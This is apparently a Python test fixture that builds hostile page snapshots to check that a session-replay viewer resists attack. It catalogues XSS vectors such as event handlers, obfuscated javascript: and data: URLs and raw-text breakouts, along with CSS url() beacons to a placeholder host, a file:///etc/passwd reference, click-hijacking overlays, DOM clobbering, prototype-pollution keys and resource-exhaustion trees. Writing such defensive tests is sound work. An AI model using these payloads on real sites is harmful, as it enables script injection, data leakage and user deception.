"""Pages of a hostile visitor, as frames of his own making: he does not use our capture.

Each attack has a name and payloads; the first is a snapshot. ``CANARY`` is a script that tells if it runs, ``OUT`` an
address outside of the account's asset origins; a test puts its own in their places. ``TOO_LARGE`` are those that ask for
more work than a viewer does.
"""

from typing import Any

from tests.unit.sessions_app.leaking import Writer

CANARY, OUT = "top.canary('NAME')", "http://OUT/NAME"
Attack = list[Any]
ATTACKS: dict[str, Attack] = {}
TOO_LARGE: dict[str, Attack] = {}


class HostileWriter(Writer):
    """Also documents in frames and shadow roots: ["(doc)", {}, root] and ["(shadow)", {}, *children]."""

    def node(self, node: Any) -> None:
        if isinstance(node, str) or node[0] not in ("(doc)", "(shadow)", "(box)"):
            super().node(node)
            return
        kind, more, *children = node
        self.next += 1
        if kind == "(box)":
            self.nodes.append(-3 if more.get("masked", True) else -6)
            self.value(more.get("tag", "div"))
            self.nodes += more.get("size", [10, 10])
            self.value(more["style"])
            return
        self.nodes += [-7, more.get("quirks", 0)] if kind == "(doc)" else [-4, more.get("flags", 0)]
        for name in ("html", "", "") if kind == "(doc)" else ():
            self.value(name)
        for child in children:
            self.node(child)
        self.nodes.append(0)


def page(*body: Any, **sections: Any) -> dict[str, Any]:
    """A snapshot. Ids in the order of the page: 1 the document, 2 html, 3 body, 4 and so on."""
    writer = HostileWriter()
    writer.node(["(doc)", {}, ["html", {}, ["body", {}, *body]]])
    return {"v": 1, **writer.sections, **sections}


def add(name: str, *body: Any, later: list[Any] | None = None, **sections: Any) -> None:
    assert name not in ATTACKS, name
    ATTACKS[name] = [page(*body, **sections), *(later or [])]


# --- script

HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onblur",
    "onmouseover",
    "onanimationstart",
    "ontransitionend",
    "onbegin",
    "onend",
    "onrepeat",
    "ontoggle",
    "onbeforetoggle",
    "onscroll",
    "onresize",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onpopstate",
    "onplay",
    "oncanplay",
    "onloadstart",
    "oninvalid",
    "onselect",
    "oncut",
    "onpaste",
    "onwheel",
    "onpointerrawupdate",
    "onbeforematch",
    "onscrollend",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
    "ONERROR",
    "onError",
    "onunhandledrejection",
    "onafterscriptexecute",
    "onmarqueestart",
]
BEARERS: list[list[Any]] = [
    ["img", {"src": "x:"}], ["<svg", {}], ["body", {}], ["video", {"src": "x:"}], ["input", {"autofocus": ""}],
    ["details", {"open": ""}, ["summary", {}, "s"]], ["iframe", {}], ["<image", {"href": "x:"}], ["<animate", {}],
    ["=math", {}], ["marquee", {}], ["style", {}, "x"], ["x-own", {"contenteditable": ""}], ["button", {"popovertarget": "a"}],
]  # fmt: skip
for tag, given, *inside in BEARERS:
    add(f"handlers of {tag}", [tag, {**given, **dict.fromkeys(HANDLERS, CANARY)}, *inside])

SCHEMES = {
    "javascript": f"javascript:{CANARY}",
    "in capitals": f"JaVaScRiPt:{CANARY}",
    "with a tab": f"java\tscript:{CANARY}",
    "with a newline": f"java\nscript:{CANARY}",
    "after controls": f"\x01\x02 javascript:{CANARY}",
    "after a space": f"\u00a0javascript:{CANARY}",
    "vbscript": f"vbscript:{CANARY}",
    "data html": f"data:text/html,<script>{CANARY}</script>",
    "data svg": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{CANARY}\"><script>{CANARY}</script></svg>",
    "data xml": f"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CANARY}</x:script>",
    "view-source": "view-source:http://OUT/NAME",
    "file": "file:///etc/passwd",
}
ADDRESSED = {
    "a": ["href", "xlink:href", "ping"], "area": ["href"], "iframe": ["src", "srcdoc", "longdesc"], "frame": ["src"],
    "embed": ["src"], "object": ["data", "codebase", "classid"], "form": ["action"], "button": ["formaction"],
    "input": ["src", "formaction", "value"], "img": ["src", "srcset", "longdesc", "dynsrc", "lowsrc", "usemap"],
    "link": ["href", "imagesrcset"], "base": ["href"], "script": ["src"], "video": ["src", "poster"], "source": ["src", "srcset"],
    "track": ["src"], "table": ["background"], "body": ["background"], "html": ["manifest"], "portal": ["src"], "<a": ["href", "xlink:href"],
    "<use": ["href", "xlink:href"], "<image": ["href", "xlink:href"], "<script": ["href", "xlink:href"], "<feImage": ["href"],
    "<animate": ["to", "from", "values", "by"], "<set": ["to"], "=math": ["href", "xlink:href"], "=mi": ["href"], "applet": ["code"],
}  # fmt: skip
RELATIONS = [
    "stylesheet",
    "icon",
    "import",
    "preload",
    "prefetch",
    "modulepreload",
    "manifest",
    "prerender",
    "dns-prefetch",
    "preconnect",
]
for tag, names in ADDRESSED.items():
    for how, value in SCHEMES.items():
        more = {"rel": "stylesheet"} if tag == "link" else {"type": "image"} if tag == "input" else {}
        aim = {"attributeName": "href"} if tag in ("<animate", "<set") else {}
        element = [tag, {**more, **aim, **dict.fromkeys(names, value)}, "text"]
        add(f"{how} in {tag}", ["<svg", {}, element] if tag[0] == "<" else element)
for name in [
    "script",
    "SCRIPT",
    "scRipt",
    "<script",
    "=script",
    "x:script",
    "svg:script",
    "<x:script",
    "?http://www.w3.org/1999/xhtml|script",
    "?|script",
    "?http://www.w3.org/2000/svg|script",
    "?urn:x|script",
    "?http%3A//www.w3.org/1999/xhtml|script",
    "?%68ttp://www.w3.org/1999/xhtml|script",
]:
    add(f"script as {name}", [name, {"src": f"data:text/javascript,{CANARY}"}, CANARY], [name, {}, CANARY])
for number, name in enumerate(
    [
        "x<img",
        "x'\"",
        "img/src=x",
        "a\x00b",
        "?%",
        "?",
        "",
        "<",
        "=",
        "x:y:z",
        "-->",
        "!doctype",
        "x" * 70_000,
        "constructor",
    ]
):
    add(
        f"odd name {number}",
        [
            name,
            {
                "onerror": CANARY,
                "a<b": "1",
                "x/onload": CANARY,
                '"onload': CANARY,
                "=": "1",
                "xmlns": "x",
                "xlink:": "y",
            },
        ],
    )
for tag in [
    "style",
    "title",
    "textarea",
    "xmp",
    "noscript",
    "noembed",
    "noframes",
    "iframe",
    "plaintext",
    "template",
    "select",
    "option",
    "<style",
    "<title",
    "<desc",
    "=annotation-xml",
]:
    markup = f"</{tag.lstrip('<=')}><img src=x: onerror={CANARY}><script>{CANARY}</script><!--"
    add(f"markup in {tag}", [tag, {}, markup], later=[{"text": [5, -1, 0, markup]}])
add(
    "srcdoc",
    [
        "iframe",
        {
            "srcdoc": f"<script>{CANARY}</script><img src={OUT}>",
            "sandbox": "allow-scripts allow-same-origin",
            "allow": "*",
        },
    ],
)
add("srcdoc, later", ["iframe", {}], later=[{"attrs": [4, -1, -1], "strings": ["srcdoc", f"<script>{CANARY}</script>"]},
    {"attrs": [4, -1, -1, 0, -1, -1], "strings": ["sandbox", "allow-scripts", "src", f"javascript:{CANARY}"]}])  # fmt: skip
add("a frame's own document", ["iframe", {}, ["(doc)", {}, ["html", {}, ["script", {}, CANARY], ["img", {"src": OUT, "onerror": CANARY}],
    ["style", {}, f"html {{ background: url({OUT}) }}"], ["iframe", {}, ["(doc)", {"quirks": 1}, ["html", {}, ["img", {"src": OUT}]]]]]]])  # fmt: skip
add("custom elements and is", ["button", {"is": "x-y"}], ["x-y", {"is": "script", "onclick": CANARY}])
add(
    "shadow root",
    [
        "div",
        {},
        ["(shadow)", {"flags": 3}, ["script", {}, CANARY], ["img", {"src": OUT}], ["style", {}, f"@import '{OUT}'"]],
    ],
)
add(
    "foreign object",
    ["<svg", {}, ["<foreignObject", {}, ["script", {}, CANARY], ["iframe", {"src": f"javascript:{CANARY}"}]]],
)
add("animated handler", ["<svg", {}, ["<a", {}, ["<set", {"attributeName": "onmouseover", "to": CANARY}],
    ["<animate", {"attributeName": " xlink:href", "values": f"javascript:{CANARY}"}], ["<animate", {"attributeName": "HREF", "to": f"javascript:{CANARY}"}]]])  # fmt: skip

# --- going elsewhere

for equivalent in (
    "refresh",
    "Refresh",
    "set-cookie",
    "content-security-policy",
    "x-dns-prefetch-control",
    "default-style",
    "origin-trial",
):
    add(f"meta {equivalent}", ["meta", {"http-equiv": equivalent, "content": f"0;url={OUT}", "name": "x"}],
        later=[{"attrs": [4, -1, -1, 0, -1, -1], "strings": ["http-equiv", equivalent, "content", f"0;url={OUT}"]}])  # fmt: skip
add("base", ["base", {"href": "http://OUT/", "target": "_top"}], ["a", {"href": "x"}, "x"], ["img", {"src": "NAME"}])
add("targets", ["a", {"href": OUT, "target": "_top"}, "x"], ["form", {"action": OUT, "target": "_parent", "method": "post"},
    ["button", {"autofocus": "", "formaction": OUT, "accesskey": "x"}, "x"], ["input", {"type": "submit"}]])  # fmt: skip

# --- phoning out

for relation in RELATIONS:
    add(
        f"link {relation}",
        ["link", {"rel": relation, "href": OUT, "as": "image", "imagesrcset": f"{OUT} 1x", "itemprop": "x"}],
    )
add("pictures", ["img", {"src": OUT, "referrerpolicy": "unsafe-url"}], ["img", {"srcset": f"{OUT} 1x, {OUT}?2 2x"}], ["input", {"type": "image", "src": OUT}],
    ["picture", {}, ["source", {"srcset": OUT}], ["img", {}]], ["video", {"poster": OUT, "src": OUT, "autoplay": "", "preload": "auto"}, ["track", {"src": OUT, "default": ""}]],
    ["audio", {"src": OUT, "preload": "auto"}, ["source", {"src": OUT}]], ["table", {"background": OUT}], ["object", {"data": OUT}], ["embed", {"src": OUT}],
    ["<svg", {}, ["<image", {"href": OUT, "width": "9", "height": "9"}], ["<use", {"href": f"{OUT}#a"}], ["<feImage", {"href": OUT}],
     ["<rect", {"fill": f"url({OUT}#a)", "filter": f"url({OUT}#a)", "mask": f"url({OUT}#a)", "clip-path": f"url({OUT}#a)", "cursor": f"url({OUT}), auto"}]],
    play=[11, 0, 1, 1, 0, 0])  # fmt: skip
add("meta referrer", ["meta", {"name": "referrer", "content": "unsafe-url"}], ["img", {"src": OUT}],
    later=[{"attrs": [4, -1, -1], "strings": ["name", "Referrer"]}])  # fmt: skip
PROPERTIES = [
    "background",
    "list-style-image",
    "border-image-source",
    "cursor",
    "content",
    "mask",
    "-webkit-mask",
    "-webkit-box-reflect",
    "filter",
    "backdrop-filter",
    "clip-path",
    "shape-outside",
    "offset-path",
    "-webkit-filter",
    "-moz-binding",
    "behavior",
    "src",
    "fill",
    "stroke",
    "marker-start",
    "image-set",
]
ways = [f"url({OUT}?0)", f'url("{OUT}?1"), auto', f"image-set('{OUT}?2' 1x)", f"-webkit-image-set(url({OUT}?3) 1x)", f"\\75rl({OUT}?4)", f"URL('{OUT}?5#x')", f"src('{OUT}?6')", f"element(#x), url({OUT}?7)"]  # fmt: skip
declarations = "; ".join(f"{name}: {way}" for name in PROPERTIES for way in ways)
by_rule = " ".join(
    f"p{'::before' if name == 'content' else ''} {{ {name}: {way} }}" for name in PROPERTIES for way in ways
)
for property_name in PROPERTIES:
    for number, way in enumerate(ways):
        add(
            f"style attribute {property_name} {number}",
            ["p", {"style": f"display: list-item; {property_name}: {way}"}, "p"],
        )
SHEET = f"""@import '{OUT}?a'; @import url({OUT}?b) screen; @font-face {{ font-family: F; src: url({OUT}?c) }}
@font-face {{ font-family: F; src: local(x), url({OUT}?d) format('woff2'); unicode-range: U+0-FF }} * {{ font-family: F }} {by_rule}
@namespace url({OUT}?e); @property --x {{ syntax: '*'; inherits: false; initial-value: url({OUT}?f) }} p {{ background: var(--x, url({OUT}?g)) }}
@keyframes k {{ from {{ background: url({OUT}?h) }} }} p {{ animation: k 1s infinite }} p:hover, p:is(:focus) {{ background: url({OUT}?i) }}
@counter-style c {{ system: cyclic; symbols: url({OUT}?j) }} p {{ list-style: c; display: list-item }} @layer a {{ p {{ mask: url({OUT}?k) }} }}"""
add("style element", ["style", {}, SHEET], ["p", {}, "p"])
add("style element, later", ["style", {}, "x"], ["p", {}, "p"], later=[{"text": [5, -1, 0, SHEET]}])
add(
    "rules of a sheet",
    ["style", {}, "p {}"],
    ["p", {}, "p"],
    sheet=[4, [0, *SHEET.splitlines()]],
    rule=[4, 1, 0, f"p {{ background: url({OUT}?l) }}"],
)
add(
    "rules beside a link",
    ["link", {"rel": "stylesheet", "href": OUT}],
    ["p", {}, "p"],
    sheet=[4, [1, *SHEET.splitlines()]],
)
add("adopted sheets", ["p", {}, "p"], sheet=[-1, [0, *SHEET.splitlines()]], adopt=[1, [-1]])
add(
    "fonts of a script",
    ["p", {"style": "font-family: G"}, "p"],
    fonts=[1, [["G", f"url({OUT})", {}], ["G", f"url('{OUT}?2') format('woff')", {"display": "block"}]]],
)
add(
    "animations",
    ["p", {}, "p"],
    motion=[
        [
            1,
            4,
            0,
            1,
            "",
            [{"backgroundImage": f"url({OUT})"}, {"backgroundImage": f"url({OUT}?2)"}],
            {"duration": 1000, "iterations": -1},
        ]
    ],
)
add("registered properties", ["p", {"style": "background: var(--y)"}, "p"], props=[["--y", "*", 0, f"url({OUT})"]])
add(
    "canvas pictures", ["canvas", {}], canvas=[4, OUT], later=[{"canvas": [4, f'data:image/png;base64,x"), url({OUT}']}]
)
add("boxes with a style", ["(box)", {"style": f"display:block;background:url({OUT});position:url({OUT});left:\\75rl({OUT});top:var(--x)"}],
    later=[{"box": [4, 9, 9, f"background-image:url({OUT});top:calc(1px * (1))"]}])  # fmt: skip
for tag in ["iframe", "script", "object", "style", "form", "img", "x<img"]:
    add(
        f"a masked {tag}",
        ["(box)", {"tag": tag, "style": "display:block"}],
        later=[{"attrs": [4, -1, -1], "strings": ["srcdoc", f"<script>{CANARY}</script>"]}],
    )

# --- covering the viewer, and holding the agent's hand

COVER = "position: fixed; inset: -9999px; z-index: 2147483647; width: 99999px; height: 99999px; background: red; pointer-events: auto"
add("a cover", ["div", {"style": COVER}, "x"], view=[1e9, 1e9, 1], full=[4])
add("a modal dialog", ["dialog", {"open": "", "style": COVER}, "x"], top=[4, 1])
add("a popover", ["div", {"popover": "", "style": COVER}, "x"], top=[4, 2])
add("an autofocused field", ["input", {"autofocus": "", "tabindex": "1", "accesskey": "e"}], focus=[4, 1])
add("a cursor like the viewer's", ["div", {"style": f"{COVER}; cursor: none; opacity: 0.01"}, "x"])
add("an open list", ["select", {"style": COVER}, ["option", {}, "x"]], list=4)
add("a bubble", ["input", {"style": COVER}], bubble=[4, f"<img src={OUT} onerror={CANARY}>"])
add("no size", ["p", {}, "x"], view=[0, 0, 0])
add("no number as size", ["p", {}, "x"], view=["9", None, {}])

# --- names that hide properties

WALKED = [
    "parentNode",
    "parentElement",
    "lastChild",
    "previousSibling",
    "nextSibling",
    "firstChild",
    "childNodes",
    "shadowRoot",
    "contentDocument",
    "ownerDocument",
    "localName",
    "nodeType",
    "getRootNode",
    "isConnected",
    "getAttribute",
    "setAttribute",
    "getBoundingClientRect",
    "querySelectorAll",
    "hasAttribute",
    "attributes",
    "remove",
    "matches",
    "style",
]
for name in WALKED:
    add(f"a form whose {name} is a field", ["form", {"id": "f"}, ["input", {"name": name}], ["b", {}, "x"]], ["input", {"name": name, "form": "f"}],
        hover=6, focus=[6, 1], later=[{"gone": [3]}])  # fmt: skip
for name in [
    "documentElement",
    "body",
    "head",
    "defaultView",
    "createElement",
    "adoptedStyleSheets",
    "open",
    "write",
    "close",
    "fonts",
    "scrollingElement",
    "querySelectorAll",
    "elementFromPoint",
    "activeElement",
]:
    add(f"a document whose {name} is an image", ["img", {"name": name, "id": name}], ["form", {"name": name}, ["input", {"id": name}]], scroll=[1, 0, 10],
        later=[page(["p", {}, "again"])])  # fmt: skip

# --- payloads that are none

BROKEN: list[Any] = [
    None,
    [],
    {},
    "x",
    5,
    -1,
    1e300,
    [None],
    [[]],
    {"a": 1},
    [1, 2, 3],
    ["\ud800"],
    [-5, 1],
    True,
    [5e-324],
    [[1], [2]],
]
SECTIONS = [
    "ids",
    "nodes",
    "strings",
    "attrs",
    "text",
    "gone",
    "field",
    "scroll",
    "view",
    "box",
    "sheet",
    "rule",
    "adopt",
    "off",
    "focus",
    "caret",
    "select",
    "hover",
    "active",
    "target",
    "play",
    "motion",
    "canvas",
    "fonts",
    "props",
    "top",
    "full",
    "list",
    "bubble",
    "states",
    "undef",
    "slots",
    "guest",
    "check",
    "env",
    "more",
    "v",
]
for name in SECTIONS:
    for number, value in enumerate(BROKEN):
        ATTACKS[f"broken {name} {number}"] = [
            page(["p", {}, "x"]),
            {name: value},
            {**page(["p", {}, "y"]), name: value},
        ]
add("a cycle", ["div", {}, ["p", {}, "x"]], later=[{"nodes": [5, 0, -5, 4, 0]}])
add(
    "the document into itself",
    ["div", {}],
    later=[{"nodes": [4, 0, -5, 1, 0]}, {"gone": [1]}, {"nodes": [1, 0, -5, 4, 0]}],
)
add("a guest in no frame", ["div", {}], guest=[4, page(["p", {}, "x"])])
add(
    "guests in guests",
    ["iframe", {}],
    guest=[4, page(["script", {}, CANARY], ["img", {"src": OUT}], guest=[4, page(["p", {}, "x"])])],
)
add(
    "prototypes",
    ["p", {"__proto__": "x", "constructor": "y", "hasOwnProperty": "z"}],
    __proto__={"v": 2},
    constructor=[1],
)

# --- more than a viewer builds


def chain(tag: str, depth: int) -> dict[str, Any]:
    """Elements within each other, written flat: building the tree here would be as deep."""
    nodes = [-7, 0, -1, -1, 1, -1] + [1] * (depth - 1) + [0] * (depth + 1)
    return {"v": 1, "ids": [1, depth + 1], "nodes": nodes, "strings": ["html", "", tag]}


def row(count: int) -> dict[str, Any]:
    nodes = [-7, 0, -1, -1, 1, -1, -1, 0] + [2, 0] * (count - 1) + [0, 0]
    return {"v": 1, "ids": [1, count + 2], "nodes": nodes, "strings": ["html", "", "html", "b"]}


def doubling(levels: int) -> list[Any]:
    """SVG references that draw 2 ** levels things."""
    groups: list[Any] = [["<g", {"id": "u0"}, ["<rect", {"width": "9", "height": "9"}]]]
    groups += [
        ["<g", {"id": f"u{n}"}, ["<use", {"href": f"#u{n - 1}"}], ["<use", {"href": f"#u{n - 1}"}]]
        for n in range(1, levels)
    ]
    return ["<svg", {}, ["<defs", {}, *groups], ["<use", {"href": f"#u{levels - 1}"}]]


TOO_LARGE["a deep tree"] = [chain("div", 5000)]
TOO_LARGE["a deeper tree"] = [chain("b", 200_000)]
TOO_LARGE["deep by moving"] = [page(["div", {}]), *(
    {"ids": [5 + 300 * n, 300], "nodes": [4 + 300 * n, 0, -1, *[1] * 299, *[0] * 301], "strings": ["div"]} for n in range(4))]  # fmt: skip
TOO_LARGE["a wide tree"] = [row(400_000)]
TOO_LARGE["many frames"] = [page(*[["iframe", {}, ["(doc)", {}, ["html", {}]]] for _ in range(1000)])]
TOO_LARGE["frames in frames"] = [
    page(
        ["iframe", {}, ["(doc)", {}, ["html", {}]]], *[["iframe", {}, ["(doc)", {}, ["html", {}]]] for _ in range(300)]
    )
]
TOO_LARGE["many rules"] = [page(["style", {}, "p {}"], rule=[4, 1, 0, "p { color: red }"] * 60_000)]
TOO_LARGE["many scrolls"] = [page(["p", {}, "x"], scroll=[4, 0, 1] * 30_000)]
TOO_LARGE["many attributes"] = [
    page(["p", {}]),
    {"attrs": [4, -1, -1, *[0, 0, 1] * 400_000], "strings": ["title", "x"]},
]
TOO_LARGE["a node that is moved again and again"] = [
    page(["div", {}, *[["b", {}]] * 20_000], ["div", {}]),
    {"nodes": [20_005, 0, *[-5, 4] * 40, 0]},
]
TOO_LARGE["references that double"] = [page(doubling(30))]
TOO_LARGE["a long way of references"] = [
    page(["<svg", {}, *[["<use", {"id": f"u{n}", "href": f"#u{n + 1}"}] for n in range(3000)]])
]
